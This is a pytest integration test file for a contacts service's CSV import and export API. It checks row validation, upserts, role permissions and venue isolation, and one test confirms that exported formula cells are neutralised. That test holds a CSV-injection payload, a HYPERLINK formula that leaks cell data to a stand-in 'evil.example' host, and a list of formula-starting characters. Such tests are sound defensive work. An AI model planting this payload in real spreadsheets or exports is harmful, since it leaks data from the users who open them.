"""Contacts in and out as CSV (/api/v1/contacts/import and /export) on the real infra.

The import is a job: each upload answers 202 and a job, whose counts and rejections
(read from ``GET /api/v1/contacts/imports/{id}`` once it succeeded) are the report.
"""

import csv
import io
import json

import pytest

from contacts.leads.repository import ContactRepository
from contacts.leads.transfer import ContactTransfer
from gala.contracts.contacts import CONTACT_TOPIC
from gala.identity import Role
from gala.testing import TopicTail

pytestmark = pytest.mark.asyncio(loop_scope="session")

PROBLEM = "application/problem+json"
EXPORT = "/api/v1/contacts/export"


@pytest.fixture(scope="module")
async def contacts(contacts_worker):
    """The service in the ``all`` role: the import is a job its worker runs."""
    return contacts_worker


async def upload(contacts, principal, data, **kw):
    return await contacts.upload_csv(principal, data, **kw)


async def imported(contacts, principal, data, **kw):
    """The import's job, once it succeeded (its counts and rejections: the report)."""
    return await contacts.imported(principal, data, **kw)


async def jobs(contacts, principal):
    """The venue's import jobs (newest first)."""
    response = await contacts.client.get(
        "/api/v1/contacts/imports", headers=contacts.headers(principal)
    )
    assert response.status_code == 200, response.text
    return response.json()["items"]


async def listed(contacts, principal, query=""):
    """Every contact of the listing, all pages."""
    items, cursor = [], None
    while True:
        params = {"limit": 200, **({"cursor": cursor} if cursor else {})}
        response = await contacts.client.get(
            f"/api/v1/contacts?{query}", params=params, headers=contacts.headers(principal)
        )
        assert response.status_code == 200, response.text
        items += response.json()["items"]
        cursor = response.json()["nextCursor"]
        if cursor is None:
            return items


async def exported(contacts, principal, query=""):
    response = await contacts.client.get(f"{EXPORT}?{query}", headers=contacts.headers(principal))
    assert response.status_code == 200, response.text
    return response


def rows_of(response):
    return list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))


def counts(report):
    return {k: report[k] for k in ("created", "updated", "unchanged", "rejected")}


GOOD_AND_BAD = (
    "\ufeffemail,name,leadSource,status,customFields,phone\r\n"  # line 1, columns in any order
    'ada@example.com,Ada Lovelace,REFERRAL,PROSPECT,"{""table"": 4}",+44 20 7946 0958\r\n'  # 2
    "not-an-email,Bad Email,,,,\r\n"  # 3
    "noname@example.com,,,,,\r\n"  # 4
    "pigeon@example.com,Pigeon,CARRIER_PIGEON,,,\r\n"  # 5
    'json@example.com,Json,,,"{""broken"": ",\r\n'  # 6
    "asleep@example.com,Asleep,,ASLEEP,,\r\n"  # 7
    'zoe@example.com,"Zoë ""Z"", from\r\nthe north",INSTAGRAM,,,\r\n'  # 8-9, one record
    "\r\n"  # 10, blank: skipped
    "bob@example.com,Bob,,,,"  # 11, no newline at the end
)


async def test_good_rows_are_imported_and_bad_rows_rejected_with_their_lines(contacts, infra):
    _, admin = await contacts.new_venue()
    tail = TopicTail(infra.kafka_bootstrap, CONTACT_TOPIC)
    await tail.start()
    try:
        report = await imported(contacts, admin, GOOD_AND_BAD, chunk=3)
        assert counts(report) == {"created": 3, "updated": 0, "unchanged": 0, "rejected": 5}
        assert report["rejections"] == [
            {"line": 3, "reason": "'not-an-email' is not a valid email address."},
            {"line": 4, "reason": "A contact needs a name."},
            {
                "line": 5,
                "reason": "'CARRIER_PIGEON' is not a leadSource (one of WEBSITE, FACEBOOK,"
                " INSTAGRAM, LINKEDIN, REFERRAL, DIRECT, OTHER).",
            },
            {
                "line": 6,
                "reason": "customFields is not valid JSON (Expecting value at character 12).",
            },
            {
                "line": 7,
                "reason": "'ASLEEP' is not a status (one of UNQUALIFIED, PROSPECT, LEAD,"
                " QUALIFIED, CUSTOMER, LOST).",
            },
        ]
        stored = {c["email"]: c for c in await listed(contacts, admin)}
        assert set(stored) == {"ada@example.com", "zoe@example.com", "bob@example.com"}
        ada = stored["ada@example.com"]
        assert (ada["name"], ada["phone"], ada["leadSource"], ada["status"]) == (
            "Ada Lovelace",
            "+442079460958",
            "REFERRAL",
            "PROSPECT",
        )
        assert ada["customFields"] == {"table": 4}
        assert stored["zoe@example.com"]["name"] == 'Zoë "Z", from the north'
        assert (stored["bob@example.com"]["leadSource"], stored["bob@example.com"]["status"]) == (
            "OTHER",
            "UNQUALIFIED",
        )
        # nothing at all of the bad rows is stored
        documents = await contacts.runtime.store["contacts"].count_documents(
            {"venueId": admin.venue_id}
        )
        assert documents == 3
        # each created contact announced itself, once, with its state
        for contact in stored.values():
            (_, envelope) = (await tail.wait_for(contact["id"], 1))[0]
            assert envelope.type == "gala.contact.created.v1"
            assert envelope.venueid == admin.venue_id
            assert json.loads(envelope.data)["email"] == contact["email"]
    finally:
        await tail.stop()


async def test_importing_again_updates_instead_of_duplicating(contacts, infra):
    _, admin = await contacts.new_venue()
    _, sales = await contacts.add_user(admin, Role.SALES)
    tail = TopicTail(infra.kafka_bootstrap, CONTACT_TOPIC)
    await tail.start()
    try:
        first = "name,email,phone\nAda,ada@example.com,+15550100\nBob,bob@example.com,\n"
        assert counts(await imported(contacts, sales, first)) == {
            "created": 2,
            "updated": 0,
            "unchanged": 0,
            "rejected": 0,
        }
        before = {c["email"]: c for c in await listed(contacts, admin)}
        again = (
            "email,name,phone,status\n"
            "ADA@example.com,Ada King,,\n"  # 2: renamed (an empty phone keeps the phone)
            "bob@example.com,Bob,,\n"  # 3: as it is
            "cy@example.com,Cy,,\n"  # 4: new
            "cy@example.com,Cy Young,,PROSPECT\n"  # 5: the same file's contact, updated
            "bob@example.com,Bobby,,QUALIFIED\n"  # 6: a jump SALES may not make: all refused
        )
        report = await imported(contacts, sales, again)
        assert counts(report) == {"created": 1, "updated": 2, "unchanged": 1, "rejected": 1}
        assert report["rejections"] == [
            {
                "line": 6,
                "reason": "A contact cannot go from UNQUALIFIED to QUALIFIED"
                " (only an ADMIN may make that jump).",
            }
        ]
        after = {c["email"]: c for c in await listed(contacts, admin)}
        assert set(after) == {"ada@example.com", "bob@example.com", "cy@example.com"}
        assert after["ada@example.com"]["id"] == before["ada@example.com"]["id"]
        assert (after["ada@example.com"]["name"], after["ada@example.com"]["phone"]) == (
            "Ada King",
            "+15550100",
        )
        assert after["bob@example.com"] == before["bob@example.com"]
        assert (after["cy@example.com"]["name"], after["cy@example.com"]["status"]) == (
            "Cy Young",
            "PROSPECT",
        )
        assert await tail.types(after["ada@example.com"]["id"], 2) == [
            "gala.contact.created.v1",
            "gala.contact.updated.v1",
        ]
        assert await tail.types(after["cy@example.com"]["id"], 3) == [
            "gala.contact.created.v1",
            "gala.contact.updated.v1",
            "gala.contact.status_changed.v1",
        ]
        # the same file once more: rows apply in order, so only Cy's two rows change
        # anything (back and forth), and the contacts end as they were
        assert counts(await imported(contacts, sales, again)) == {
            "created": 0,
            "updated": 2,
            "unchanged": 2,
            "rejected": 1,
        }

        def details(listing):
            return {c["email"]: {**c, "updatedAt": None} for c in listing}

        assert details(await listed(contacts, admin)) == details(after.values())
    finally:
        await tail.stop()


async def test_a_row_a_new_contact_could_not_take_applies_to_an_existing_one(contacts):
    _, admin = await contacts.new_venue()
    await imported(contacts, admin, "name,email,status\nAda,ada@example.com,LEAD\n")
    report = await imported(
        contacts, admin, "name,email,status\nAda,ada@example.com,LOST\nNew,new@example.com,LOST\n"
    )
    assert counts(report) == {"created": 0, "updated": 1, "unchanged": 0, "rejected": 1}
    assert report["rejections"] == [{"line": 3, "reason": "A new contact cannot start LOST."}]
    assert [(c["email"], c["status"]) for c in await listed(contacts, admin)] == [
        ("ada@example.com", "LOST")
    ]


@pytest.mark.parametrize("role", [Role.STAFF, Role.CLIENT, Role.PROJECT_MANAGER])
async def test_only_admin_and_sales_import_and_export(contacts, role):
    _, admin = await contacts.new_venue()
    _, someone = await contacts.add_user(admin, role)
    refused = await upload(contacts, someone, "name,email\nAda,ada@example.com\n")
    assert refused.status_code == 403, refused.text
    assert refused.headers["content-type"] == PROBLEM
    # refused before the body is looked at: a wrong type answers the same
    wrong = await upload(contacts, someone, "{}", content_type="application/json")
    assert wrong.status_code == 403
    export = await contacts.client.get(EXPORT, headers=contacts.headers(someone))
    assert export.status_code == 403
    assert export.headers["content-type"] == PROBLEM
    assert await listed(contacts, admin) == []
    assert await jobs(contacts, admin) == []


@pytest.mark.parametrize(
    "content_type",
    [
        "application/json",
        "text/plain",
        "multipart/form-data; boundary=x",
        "text/csv; charset=latin-1",
    ],
)
async def test_a_body_that_is_not_csv_is_415(contacts, content_type):
    _, admin = await contacts.new_venue()
    response = await upload(
        contacts, admin, "name,email\nAda,ada@example.com\n", content_type=content_type
    )
    assert response.status_code == 415, response.text
    assert response.headers["content-type"] == PROBLEM
    assert response.json()["type"] == "urn:gala:problem:unsupported-media-type"
    assert await listed(contacts, admin) == []
    assert await jobs(contacts, admin) == []  # no job was made


@pytest.mark.parametrize(
    "content_type", ["text/csv", "TEXT/CSV; charset=UTF-8", 'text/csv; charset="utf8"']
)
async def test_csv_is_accepted_with_or_without_its_charset(contacts, content_type):
    _, admin = await contacts.new_venue()
    data = "name,email\nAda,ada@example.com\n"
    report = await imported(contacts, admin, data, content_type=content_type)
    assert report["created"] == 1


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        ("Ada,ada@example.com\nBob,bob@example.com\n", "Unknown column(s) 'Ada'"),
        ("name,email,company\nAda,ada@example.com,Acme\n", "Unknown column(s) 'company'"),
        ("name,phone\nAda,+15550100\n", "lacks the column(s) email"),
        ("", "The file is empty"),
        ("\r\n\r\n", "The file is empty"),
    ],
)
async def test_a_file_without_the_header_is_422_and_changes_nothing(contacts, data, reason):
    _, admin = await contacts.new_venue()
    response = await upload(contacts, admin, data)
    assert response.status_code == 422, response.text
    assert response.headers["content-type"] == PROBLEM
    assert response.json()["type"] == "urn:gala:problem:invalid-input"
    assert reason in response.json()["detail"]
    assert await listed(contacts, admin) == []
    assert await jobs(contacts, admin) == []  # no job was made, nothing left staged
    assert await contacts.runtime.store["contact_import_chunks"].count_documents({}) == 0


async def test_export_answers_exactly_the_filtered_contacts_and_imports_back_unchanged(contacts):
    _, admin = await contacts.new_venue()
    _, sales = await contacts.add_user(admin, Role.SALES)
    data = (
        "name,email,leadSource,status,customFields\n"
        'Hot One,hot1@example.com,REFERRAL,LEAD,"{""k"": [1, ""a,b""]}"\n'
        "Hot Two,hot2@example.com,REFERRAL,LEAD,\n"
        "Cold,cold@example.com,WEBSITE,LEAD,\n"
        "Other,other@example.com,REFERRAL,PROSPECT,\n"
    )
    assert (await imported(contacts, admin, data))["created"] == 4
    response = await exported(contacts, sales, "status=LEAD&leadSource=REFERRAL")
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    disposition = response.headers["content-disposition"]
    assert disposition.startswith('attachment; filename="contacts-') and disposition.endswith(
        '.csv"'
    )
    assert response.content.decode().split("\r\n")[0] == (
        "id,name,email,phone,leadSource,status,customFields,leadHeat,createdAt"
    )
    rows = rows_of(response)
    assert sorted(r["email"] for r in rows) == ["hot1@example.com", "hot2@example.com"]
    listing = {c["id"]: c for c in await listed(contacts, admin, "status=LEAD&leadSource=REFERRAL")}
    for row in rows:
        contact = listing[row["id"]]
        assert (row["name"], row["phone"], row["leadSource"], row["status"]) == (
            contact["name"],
            "",
            "REFERRAL",
            "LEAD",
        )
        assert int(row["leadHeat"]) == contact["leadHeat"]
        assert row["createdAt"][:19] == contact["createdAt"][:19]
    assert json.loads(
        next(r for r in rows if r["email"] == "hot1@example.com")["customFields"]
    ) == {"k": [1, "a,b"]}
    # the whole export imports back as it is: nothing changes
    everything = await exported(contacts, admin)
    assert len(rows_of(everything)) == 4
    before = await listed(contacts, admin)
    report = await imported(contacts, sales, everything.content)
    assert counts(report) == {"created": 0, "updated": 0, "unchanged": 4, "rejected": 0}
    assert await listed(contacts, admin) == before


async def test_another_venue_is_never_exported_nor_changed_by_an_import(contacts):
    _, admin_a = await contacts.new_venue()
    _, admin_b = await contacts.new_venue()
    data = "name,email,leadSource\nShared Person,shared@example.com,WEBSITE\n"
    await imported(contacts, admin_b, data)
    (in_b,) = await listed(contacts, admin_b)

    report = await imported(contacts, admin_a, data.replace("Shared Person", "Renamed"))
    assert counts(report) == {"created": 1, "updated": 0, "unchanged": 0, "rejected": 0}
    (in_a,) = await listed(contacts, admin_a)
    assert in_a["id"] != in_b["id"] and in_a["venueId"] == admin_a.venue_id
    assert await listed(contacts, admin_b) == [in_b]  # untouched

    rows = rows_of(await exported(contacts, admin_a))
    assert [(r["id"], r["name"]) for r in rows] == [(in_a["id"], "Renamed")]
    # an export from B, imported into A, stays in A
    from_b = await exported(contacts, admin_b)
    report = await imported(contacts, admin_a, from_b.content)
    assert counts(report) == {"created": 0, "updated": 1, "unchanged": 0, "rejected": 0}
    assert await listed(contacts, admin_b) == [in_b]
    (in_a_now,) = await listed(contacts, admin_a)
    assert (in_a_now["id"], in_a_now["name"]) == (in_a["id"], "Shared Person")


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


async def test_formula_cells_are_exported_neutralised_and_import_back_to_the_same_values(contacts):
    _, admin = await contacts.new_venue()
    key = (
        await contacts.client.get("/api/v1/contacts/intake-key", headers=contacts.headers(admin))
    ).json()["key"]
    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    submitted = await contacts.client.post(
        f"/api/v1/intake/{key}",
        json={"name": hyperlink, "email": "mallory@example.com", "message": "@SUM(1+1)"},
        headers={"X-Forwarded-For": "203.0.113.77"},
    )
    assert submitted.status_code == 202, submitted.text
    quoted = await contacts.client.post(
        f"/api/v1/intake/{key}",
        json={"name": "'=x", "email": "quote@example.com"},
        headers={"X-Forwarded-For": "203.0.113.78"},
    )
    assert quoted.status_code == 202, quoted.text
    data = (
        "name,email,phone,customFields\n"
        '\'=already quoted,quoted@example.com,"+33 6 12 34 56 78",\n'
        '-5,minus@example.com,+44 20 7946 0958,"{""note"": ""=1+1""}"\n'
        "@,at@example.com,,\n"
        "a=b,plain@example.com,'+33 7 00 00 00 01,\n"
    )
    assert (await imported(contacts, admin, data))["created"] == 4
    before = {c["email"]: c for c in await listed(contacts, admin)}
    assert before["mallory@example.com"]["name"] == hyperlink
    assert before["quote@example.com"]["name"] == "'=x"
    # a hand-made file's quoted formula is read as an export writes one
    assert before["quoted@example.com"]["name"] == "=already quoted"
    assert before["quoted@example.com"]["phone"] == "+33612345678"
    assert before["plain@example.com"]["phone"] == "+33700000001"  # a quoted phone, read

    response = await exported(contacts, admin)
    raw = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    assert not [cell for row in raw for cell in row if cell.startswith(FORMULA_STARTS)]
    cells = {row[2]: row for row in raw[1:]}
    assert cells["mallory@example.com"][1] == "'" + hyperlink
    assert cells["quoted@example.com"][1:4] == [
        "'=already quoted",
        "quoted@example.com",
        "'+33612345678",
    ]
    assert cells["quote@example.com"][1] == "''=x"
    assert cells["minus@example.com"][1] == "'-5"
    assert cells["at@example.com"][1] == "'@"
    assert cells["plain@example.com"][1] == "a=b"

    # the export imports back exactly: into another venue, the same values
    _, other = await contacts.new_venue()
    report = await imported(contacts, other, response.content)
    assert counts(report) == {"created": 6, "updated": 0, "unchanged": 0, "rejected": 0}

    def values(listing):
        fields = ("name", "email", "phone", "leadSource", "status", "customFields")
        return sorted(tuple(json.dumps(c[f]) for f in fields) for c in listing)

    assert values(await listed(contacts, other)) == values(before.values())
    # and into the same venue: nothing changes
    again = await imported(contacts, admin, response.content)
    assert counts(again) == {"created": 0, "updated": 0, "unchanged": 6, "rejected": 0}


async def test_export_is_not_taken_for_a_contact_id(contacts):
    _, admin = await contacts.new_venue()
    response = await exported(contacts, admin)
    assert (
        response.content
        == b"id,name,email,phone,leadSource,status,customFields,leadHeat,createdAt\r\n"
    )


# --- races: a contact created or changed between the batch's read and its write --------


class Stale(ContactRepository):
    """Answers the batch lookup as it was before someone else's write (once)."""

    def __init__(self, store, outbox, meanwhile):
        super().__init__(store, outbox)
        self.meanwhile = meanwhile
        self.lookups = 0

    async def by_emails(self, venue_id, emails):
        found = await super().by_emails(venue_id, emails)
        self.lookups += 1
        if self.lookups == 1:
            return await self.meanwhile(found)
        return found


async def body(data):
    yield data.encode()


async def test_contacts_created_meanwhile_are_updated_not_duplicated(contacts):
    _, admin = await contacts.new_venue()
    await imported(contacts, admin, "name,email\nAda,ada@example.com\nBob,bob@example.com\n")
    runtime = contacts.runtime

    async def as_if_not_there_yet(found):
        return {}

    repository = Stale(runtime.store, runtime.outbox, as_if_not_there_yet)
    report = await ContactTransfer(repository).import_csv(
        admin,
        body("name,email\nAda King,ada@example.com\nBob,bob@example.com\nCy,cy@example.com\n"),
    )
    assert repository.lookups == 2  # the bulk insert lost two, which were read again
    assert (report.created, report.updated, report.unchanged, report.rejected) == (1, 1, 1, 0)
    names = sorted(c["name"] for c in await listed(contacts, admin))
    assert names == ["Ada King", "Bob", "Cy"]


async def test_contacts_changed_meanwhile_are_read_again_and_both_changes_kept(contacts):
    _, admin = await contacts.new_venue()
    await imported(contacts, admin, "name,email\nAda,ada@example.com\n")
    runtime = contacts.runtime
    (ada,) = await listed(contacts, admin)

    async def someone_changes_ada(found):
        changed = await contacts.client.patch(
            f"/api/v1/contacts/{ada['id']}",
            json={"phone": "+15550100"},
            headers=contacts.headers(admin),
        )
        assert changed.status_code == 200
        return found  # read before the change: its version is stale

    repository = Stale(runtime.store, runtime.outbox, someone_changes_ada)
    report = await ContactTransfer(repository).import_csv(
        admin, body("name,email\nAda King,ada@example.com\n")
    )
    assert repository.lookups == 2
    assert (report.created, report.updated, report.rejected) == (0, 1, 0)
    (after,) = await listed(contacts, admin)
    assert (after["name"], after["phone"]) == ("Ada King", "+15550100")


# last: its thousands of new contacts keep the outbox relay busy for a while


async def test_thousands_of_rows_go_through_in_batches(contacts):
    """More rows than a batch and than an export page; more bad rows than are listed."""
    _, admin = await contacts.new_venue()
    lines = ["name,email,status"]
    for n in range(1, 1201):
        lines.append(f"Guest {n},guest{n}@example.com,")
    lines.append("Guest 7 again,GUEST7@example.com,PROSPECT")  # line 1202: a later batch
    lines += [f"Bad {n},bad{n}," for n in range(1100)]  # lines 1203-2302
    report = await imported(contacts, admin, "\n".join(lines), chunk=4096)
    assert counts(report) == {"created": 1200, "updated": 1, "unchanged": 0, "rejected": 1100}
    assert report["rowsRead"] == 2301
    assert len(report["rejections"]) == 100  # every rejection counts; the first are listed
    assert [r["line"] for r in report["rejections"]] == list(range(1203, 1303))
    assert report["rejections"][0]["reason"] == "'bad0' is not a valid email address."

    rows = rows_of(await exported(contacts, admin, "sort=-name"))
    assert len(rows) == 1200
    assert len({r["id"] for r in rows}) == 1200
    assert [r["name"] for r in rows][:2] == ["Guest 999", "Guest 998"]
    guest7 = next(r for r in rows if r["email"] == "guest7@example.com")
    assert (guest7["name"], guest7["status"]) == ("Guest 7 again", "PROSPECT")
    assert (
        await contacts.runtime.store["contacts"].count_documents({"venueId": admin.venue_id})
        == 1200
    )
